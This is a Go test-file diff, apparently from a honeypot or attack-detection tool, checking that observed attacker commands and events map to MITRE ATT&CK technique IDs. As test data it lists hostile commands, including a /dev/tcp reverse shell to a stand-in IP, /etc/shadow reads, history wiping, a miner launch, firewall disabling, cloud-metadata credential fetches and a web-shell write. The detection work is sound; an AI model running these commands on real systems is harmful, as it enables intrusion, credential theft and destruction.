@@ -179,21 +179,21 @@ func TestTechniquesOfCommands(t *testing.T) {
 		`echo -e "abc\nHnEmP\nHnEmP"|passwd|bash`:   "T1059.004 T1098",
 		`echo "root:Xy12"|chpasswd|bash`:            "T1059.004 T1098",
 		"free -m | grep Mem | awk '{print $2 ,$3}'": "T1059.004 T1082",
-		"crontab -l":                   "T1053.003 T1059.004",
+		"crontab -l":                   "T1059.004",
 		"w":                            "T1033 T1059.004",
 		"uname -s -v -n -r -m":         "T1059.004 T1082",
-		"which ls; ls -lh $(which ls)": "T1059.004 T1083",
+		"which ls; ls -lh $(which ls)": "T1059.004",
 		"/bin/busybox HDFGH; /bin/busybox wget; /bin/busybox 81c46036wget": "T1059.004 T1105",
 		"cat /etc/passwd; cat /etc/shadow":                                 "T1003.008 T1059.004 T1087.001",
 		"unset HISTFILE; history -c; export HISTSIZE=0":                    "T1059.004 T1070.003",
 		"HISTFILE=/dev/null":                                               "T1059.004 T1070.003",
 		"nohup ./xmrig -o stratum+tcp://pool.example:3333 &":               "T1059.004 T1496.001",
-		"echo d2dldA== | base64 -d | sh":                                   "T1059.004 T1140",
+		"echo d2dldA== | base64 -d | sh":                                   "T1059.004 T1105 T1140",
 		`printf '\x7f\x45\x4c\x46' > /tmp/.x`:                              "T1027 T1059.004 T1564.001",
-		"iptables -F; systemctl stop firewalld":                            "T1059.004 T1489 T1562.004",
+		"iptables -F; systemctl stop firewalld":                            "T1059.004 T1489 T1562.001 T1562.004",
 		"sudo useradd -m -G wheel support":                                 "T1059.004 T1136.001 T1548.003",
 		"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1":                       "T1059.004 T1095",
-		"curl http://169.254.169.254/latest/meta-data/iam/":                "T1059.004 T1105 T1552.005",
+		"curl http://169.254.169.254/latest/meta-data/iam/":                "T1059.004 T1552.005",
 		"ps aux | grep -v grep | awk '{print $2}' | xargs kill -9":         "T1057 T1059.004 T1489",
 		"ssh root@10.0.0.5":                                                "T1021.004 T1059.004",
 		"exit":                                                             "T1059.004",
@@ -209,7 +209,7 @@ func TestTechniquesOfCommands(t *testing.T) {
 		{"redis", "SLAVEOF 198.51.100.7 6379", "T1105"},
 		{"redis", "MODULE LOAD ./exp.so", "T1129"},
 		{"redis", "GET key", ""},
-		{"mssql", "EXEC xp_cmdshell 'whoami'", "T1505.001"},
+		{"mssql", "EXEC xp_cmdshell 'whoami'", "T1033 T1059.003 T1505.001"},
 		{"mysql", "SELECT '<?php' INTO OUTFILE '/var/www/x.php'", "T1505.003"},
 		{"mysql", "DROP DATABASE shop", "T1485"},
 	} {
@@ -229,10 +229,10 @@ func TestTechniquesOfEvents(t *testing.T) {
 	}{
 		{"nothing", event.Event{Service: "ftp", Type: "connect"}, ""},
 		{"failed login", event.Event{Service: "ssh", Type: "auth_attempt", Evidence: []event.Evidence{{Kind: event.Login, A: "root", Outcome: event.Failure}}}, "T1110"},
-		{"login", event.Event{Service: "ssh", Type: "login", Evidence: []event.Evidence{{Kind: event.Login, A: "root", Outcome: event.Success}}}, "T1078 T1110"},
+		{"login", event.Event{Service: "ssh", Type: "login", Evidence: []event.Evidence{{Kind: event.Login, A: "root", Outcome: event.Success}}}, "T1078"},
 		{"file", event.Event{Service: "ssh", Type: "file_captured", Evidence: []event.Evidence{{Kind: event.Artifact, C: "file"}}}, "T1105"},
 		{"mail", event.Event{Service: "smtp_relay", Type: "message_stored", Evidence: []event.Evidence{{Kind: event.Artifact, C: "mail"}}}, ""},
-		{"relayed mail", event.Event{Service: "smtp_relay", Type: "message_accepted", Evidence: []event.Evidence{{Kind: event.Message, A: "acme.com"}}}, "T1071.003"},
+		{"relayed mail", event.Event{Service: "smtp_relay", Type: "message_accepted", Evidence: []event.Evidence{{Kind: event.Message, A: "acme.com"}}}, "T1566"},
 		{"zone transfer", event.Event{Service: "dns", Type: "zone_transfer"}, "T1590.002"},
 		{"SNMP", event.Event{Service: "snmp", Type: "get_request"}, "T1602.001"},
 		{"the same type of another service", event.Event{Service: "tftp", Type: "get_request"}, ""},
@@ -381,6 +381,22 @@ func TestRisk(t *testing.T) {
 	}
 }
 
+// ownRules returns a file of one rule for the shell.
+func ownRules(id, technique, rest string) string {
+	return fmt.Sprintf(`topic: mine
+rules:
+  - id: %s
+    name: does it
+    reference: https://example.org/
+    channel: shell
+    technique: %s
+    tactic: TA0011
+    stage: inside
+    severity: low
+    %s
+`, id, technique, rest)
+}
+
 func TestFilesAreReplaceableAndChecked(t *testing.T) {
 	dir := t.TempDir()
 	file := func(name, text string) string {
@@ -391,15 +407,15 @@ func TestFilesAreReplaceableAndChecked(t *testing.T) {
 		return path
 	}
 	s, err := New(Options{
-		Tools:  file("tools.json", `{"version":1,"fingerprints":[{"type":"hassh","by":"HASSH","tools":[{"tool":"mine","value":"abc"}]}]}`),
-		Attack: file("attack.json", `{"version":1,"attack_version":"18.1","commands":[{"technique":"T1105","programs":["fetchit"],"why":"fetches"}]}`),
-		Risk:   file("risk.json", `{"version":1,"inputs":1,"spoofable_factor":1,"reasons":[{"id":"all","fact":"events","weight":50,"text":"events: {n}"}]}`),
+		Tools: file("tools.json", `{"version":1,"fingerprints":[{"type":"hassh","by":"HASSH","tools":[{"tool":"mine","value":"abc"}]}]}`),
+		Rules: file("rules.yaml", ownRules("fetchit", "T1105", "when: {program: fetchit}")),
+		Risk:  file("risk.json", `{"version":1,"inputs":1,"spoofable_factor":1,"reasons":[{"id":"all","fact":"events","weight":50,"text":"events: {n}"}]}`),
 	})
 	if err != nil {
 		t.Fatal(err)
 	}
-	tools, techniques := annotated(s, event.Event{Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "hassh", B: "abc"}, {Kind: event.Command, A: "fetchit x; wget y"}}})
-	if !slices.Equal(tools, []string{"mine"}) || !slices.Equal(techniques, []string{"T1105"}) {
+	tools, techniques := annotated(s, event.Event{Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "hassh", B: "abc"}, {Kind: event.Command, A: "fetchit x; uname"}}})
+	if !slices.Equal(tools, []string{"mine"}) || !slices.Equal(techniques, []string{"T1082", "T1105"}) {
 		t.Errorf("got %v and %v", tools, techniques)
 	}
 	facts := Facts{}
@@ -413,10 +429,10 @@ func TestFilesAreReplaceableAndChecked(t *testing.T) {
 		"other version":     {Tools: file("b", `{"version":2}`)},
 		"misspelt name":     {Tools: file("c", `{"version":1,"fingerprint":[]}`)},
 		"two conditions":    {Tools: file("d", `{"version":1,"fingerprints":[{"type":"x","by":"x","tools":[{"tool":"x","value":"a","prefix":"b"}]}]}`)},
-		"other ATT&CK":      {Attack: file("e", `{"version":1,"attack_version":"12.0"}`)},
-		"unknown technique": {Attack: file("f", `{"version":1,"attack_version":"18.1","commands":[{"technique":"T9999","programs":["x"],"why":"x"}]}`)},
-		"no condition":      {Attack: file("g", `{"version":1,"attack_version":"18.1","commands":[{"technique":"T1105","why":"x"}]}`)},
-		"empty text":        {Attack: file("h", `{"version":1,"attack_version":"18.1","commands":[{"technique":"T1105","words":[""],"why":"x"}]}`)},
+		"no rules":          {Rules: file("e", `topic: x`)},
+		"unknown technique": {Rules: file("f", ownRules("a", "T9999", "when: {program: x}"))},
+		"no condition":      {Rules: file("g", ownRules("a", "T1105", ""))},
+		"empty text":        {Rules: file("h", ownRules("a", "T1105", "when: {program: ''}"))},
 		"weight of 101":     {Risk: file("i", `{"version":1,"inputs":1,"reasons":[{"id":"a","fact":"events","weight":101,"text":"x"}]}`)},
 		"unknown fact":      {Risk: file("j", `{"version":1,"inputs":1,"reasons":[{"id":"a","fact":"evnts","weight":1,"text":"x"}]}`)},
 		"no inputs":         {Risk: file("k", `{"version":1,"inputs":0}`)},
@@ -494,5 +510,31 @@ func TestShape(t *testing.T) {
 	s.Reset()
 	if len(s.Programs()) != 0 {
 		t.Error("Reset leaves something behind")
+	}
+}
+
+func TestTechniquesOfProfiles(t *testing.T) {
+	s := builtin(t)
+	for _, c := range []struct {
+		p    Profile
+		want string
+	}{
+		{Profile{}, ""},
+		{Profile{Class: behavior.Scanning, Routed: true}, "T1595.001"},
+		{Profile{Class: behavior.SlowScan, Routed: true}, "T1595.001"},
+		{Profile{Class: behavior.Scanning}, "T1046"},
+		{Profile{Class: behavior.BruteForce, Routed: true}, ""},
+		{Profile{Looked: true, Routed: true}, "T1595"},
+		{Profile{Looked: true}, "T1046"},
+		{Profile{Class: behavior.Scanning, Routed: true, Looked: true}, "T1595.001"},
+		{Profile{Users: 8, Secrets: 2}, "T1110.003"},
+		{Profile{Users: 7, Secrets: 1}, ""},
+		{Profile{Users: 8, Secrets: 3}, ""},
+		{Profile{Users: 1, Secrets: 80}, ""},
+		{Profile{Inferred: true}, "T1078"},
+	} {
+		if got := strings.Join(s.AppendProfile(nil, c.p), " "); got != c.want {
+			t.Errorf("%+v: %s, want %s", c.p, got, c.want)
+		}
 	}
 }
